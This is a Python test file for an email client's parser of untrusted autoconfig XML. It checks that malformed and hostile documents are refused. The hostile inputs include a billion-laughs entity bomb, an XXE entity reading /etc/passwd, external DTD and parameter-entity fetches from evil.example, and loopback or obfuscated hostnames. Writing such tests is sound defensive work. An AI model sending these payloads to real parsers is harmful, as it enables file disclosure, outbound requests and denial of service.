"""Reading published settings that a stranger wrote."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktopmail.domain.account import SignIn
from desktopmail.domain.errors import ProtocolViolation
from desktopmail.protocols.autoconfig.configuration import MOST_BYTES, MOST_SERVERS, PublishedServer, read
from desktopmail.protocols.autoconfig.probe import Speech
from tests.cost import least

ADDRESS = "ada@example.org"
SERVER = "<hostname>{host}</hostname><port>{port}</port><socketType>{socket}</socketType><username>{user}</username>"


def document(inside: str) -> bytes:
    return f'<?xml version="1.0"?><clientConfig><emailProvider id="e">{inside}</emailProvider></clientConfig>'.encode()


def incoming(
    host: str = "imap.example.org",
    port: object = 993,
    socket: str = "SSL",
    user: str = "%EMAILADDRESS%",
    more: str = "",
    kind: str = "imap",
) -> str:
    inside = SERVER.format(host=host, port=port, socket=socket, user=user)
    return f'<incomingServer type="{kind}">{inside}{more}</incomingServer>'


def servers(inside: str) -> tuple[PublishedServer, ...]:
    return read(document(inside), ADDRESS).servers


def test_what_it_says() -> None:
    more = "<authentication>OAuth2</authentication><authentication>password-cleartext</authentication>"
    inside = (
        "<displayName>Mail\nof %EMAILDOMAIN%\x85</displayName>"
        + incoming("IMAP.%EMAILDOMAIN%", 993, "SSL", "%EMAILLOCALPART%", more)
        + incoming("pop.example.org", 110, "STARTTLS", "%EMAILLOCALPART%.%EMAILDOMAIN%", kind="pop3")
        + f'<outgoingServer type="smtp">{SERVER.format(host="x.y", port=25, socket="plain", user="u")}</outgoingServer>'
        + '<documentation url="http://no.example"/><documentation url="https://yes.example/a"/>'
    )
    found = read(document(inside), ADDRESS)
    assert found.provider == "Mail of example.org" and found.documentation == "https://yes.example/a"
    assert found.servers == (
        PublishedServer(Speech.IMAP, "imap.example.org", 993, "tls", "ada", (SignIn.OAUTH2, SignIn.WORD)),
        PublishedServer(Speech.POP3, "pop.example.org", 110, "starttls", "ada.example.org"),
        PublishedServer(Speech.SMTP, "x.y", 25, "none", "u"),
    )


@pytest.mark.parametrize("way", ["none", "client-IP-address"])
def test_nobody_signs_in(way: str) -> None:
    assert servers(incoming(more=f"<authentication>{way}</authentication>"))[0].user == ""


@pytest.mark.parametrize(
    "server",
    [
        incoming(host="127.0.0.1"),
        incoming(host="[::1]"),
        incoming(host="localhost"),
        incoming(host="0x7f.0x1"),
        incoming(host="a b.example"),
        incoming(host="imap.example.org/x"),
        incoming(host="ima\u202ep.example.org"),
        incoming(host=".".join(["a" * 60] * 5)),
        incoming(host=""),
        incoming(port=0),
        incoming(port=65536),
        incoming(port="-1"),
        incoming(port="９９３"),
        incoming(port=""),
        incoming(socket="quantum"),
        incoming(socket=""),
        incoming(user="a&#10;b"),
        incoming(user="x" * 400),
        incoming(kind="smtp"),
        incoming(kind="exchange"),
    ],
)
def test_a_server_that_is_none(server: str) -> None:
    good = incoming("good.example.org")
    assert [each.host for each in servers(server + good)] == ["good.example.org"]


def test_not_too_many() -> None:
    assert len(servers("".join(incoming(f"i{number}.example.org") for number in range(50)))) == MOST_SERVERS


def test_names_of_another_script() -> None:
    assert servers(incoming("imap.BÜCHER.example"))[0].host == "imap.xn--bcher-kva.example"


BOMB = "".join(f'<!ENTITY e{n} "&e{n - 1};&e{n - 1};&e{n - 1};&e{n - 1};&e{n - 1};">' for n in range(1, 30))


@pytest.mark.parametrize(
    "hostile",
    [
        b"",
        b"not xml",
        b"<html><body>Welcome</body></html>",
        b"<clientConfig/>",
        b"<clientConfig><emailProvider></clientConfig>",
        f'<!DOCTYPE x [<!ENTITY e0 "ha">{BOMB}]><clientConfig>&e29;</clientConfig>'.encode(),
        b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><clientConfig>&f;</clientConfig>',
        b'<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><clientConfig><emailProvider/></clientConfig>',
        b'<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x">%p;]><clientConfig><emailProvider/></clientConfig>',
        b"<!DOCTYPE clientConfig><clientConfig><emailProvider/></clientConfig>",
        document("&undeclared;"),
        document("<a>" * 100 + "</a>" * 100),
        b"<a>" * 50_000,
        document("<a/>" * 5_000),
        document("<a>" + "x" * MOST_BYTES + "</a>"),
        b'<?xml version="1.0" encoding="utf-7"?><clientConfig/>',
        b'<?xml version="1.0" encoding="nonsense"?><clientConfig/>',
        document("\x00"),
    ],
)
def test_hostile_documents(hostile: bytes) -> None:
    def refused() -> None:
        with pytest.raises(ProtocolViolation):
            read(hostile, ADDRESS)

    assert least(refused, 2) < 2


def test_other_encodings() -> None:
    text = '<?xml version="1.0" encoding="utf-16"?>' + document(incoming()).decode().partition("?>")[2]
    assert read(text.encode("utf-16"), ADDRESS).servers[0].host == "imap.example.org"


def test_placeholders_of_the_address_are_not_read_twice() -> None:
    strange = "%EMAILDOMAIN%@example.org"
    assert read(document(incoming(user="%EMAILLOCALPART%")), strange).servers[0].user == "%EMAILDOMAIN%"


pieces = st.sampled_from(
    [
        "<a>",
        "</a>",
        incoming(),
        "<!DOCTYPE x>",
        "&lt;",
        "&x;",
        "<![CDATA[",
        "]]>",
        "<emailProvider>",
        "\x00",
        "%",
        "<?x?>",
    ]
)


@given(st.lists(st.one_of(pieces, st.text(max_size=20)), max_size=30))
def test_anything(parts: list[str]) -> None:
    for written in (document("".join(parts)), "".join(parts).encode("utf-8", "replace")):
        try:
            found = read(written, ADDRESS)
        except ProtocolViolation:
            continue
        assert all(each.host.isascii() and 0 < each.port < 65536 for each in found.servers)
